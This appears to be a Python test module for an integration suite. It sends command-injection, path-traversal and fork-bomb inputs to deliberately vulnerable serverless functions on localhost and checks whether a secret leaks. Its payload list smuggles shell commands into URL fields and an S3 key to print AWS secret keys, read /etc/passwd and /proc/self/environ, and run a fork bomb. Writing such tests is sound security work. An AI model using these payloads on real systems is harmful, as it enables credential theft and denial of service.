# SPDX-License-Identifier: Apache-2.0
"""Attacks on the vulnerable functions of tests/integration/functions: what is sent, and what counts as a leak."""

import json
import urllib.parse

from . import events
from .benign import DOCUMENTS
from .function import SECRET

COMMANDS = [
    ("semicolon, comment", "http://127.0.0.1:1/;env #", SECRET),
    ("passwd", "http://127.0.0.1:1/;cat /etc/passwd #", "root:x:0:0"),
    ("spaced semicolon", "http://127.0.0.1:1 ; ls -l / #", "drwxr"),
    ("pipe", "http://127.0.0.1:1/ | env #", SECRET),
    ("or", "http://127.0.0.1:1/ || env #", SECRET),
    ("newline", "http://127.0.0.1:1/\nenv #", SECRET),
    ("background", "http://127.0.0.1:1/ & env #", SECRET),
    ("substitution", f"http://127.0.0.1:{DOCUMENTS}/$(printenv AWS_SECRET_ACCESS_KEY)", SECRET),
    ("backticks", f"http://127.0.0.1:{DOCUMENTS}/`printenv AWS_SECRET_ACCESS_KEY`", SECRET),
    ("parameter", f"http://127.0.0.1:{DOCUMENTS}/$AWS_SECRET_ACCESS_KEY", SECRET),
]


class Attack:
    """event as sent; leak is in the answer when it worked; place is where the event holds it."""

    def __init__(self, name, event, leak, place, attack_class="cmdi"):
        self.name, self.event, self.leak, self.place, self.attack_class = name, event, leak, place, attack_class

    def worked(self, result):
        return result is not None and self.leak.encode() in result.body


def command_attacks():
    """Command injection through a query, a queue's message and an object's key."""
    found = [Attack(f"query, {name}", events.api_gateway({"document_url": text}), leak, "queryStringParameters.document_url")
             for name, text, leak in COMMANDS]
    found.append(Attack("message", events.sqs({"document_url": COMMANDS[0][1]}), SECRET, "Records[0].body.document_url"))
    key = urllib.parse.quote_plus("x;printenv AWS_SECRET_ACCESS_KEY;#")
    found.append(Attack("object key", events.s3(key), SECRET, "Records[0].s3.object.key"))
    return found


def fork_bomb():
    return Attack("fork bomb", events.api_gateway({"document_url": "http://127.0.0.1:1/;b(){ b|b& };b #"}), SECRET,
                  "queryStringParameters.document_url")


def traversal():
    return Attack("path traversal", events.api_gateway({"file": "../../../../../proc/self/environ"}), SECRET,
                  "queryStringParameters.file", "lfi")


def bash_attacks():
    return [Attack("custom runtime", json.dumps({"name": "x;printenv AWS_SECRET_ACCESS_KEY"}).encode(), SECRET, "name")]
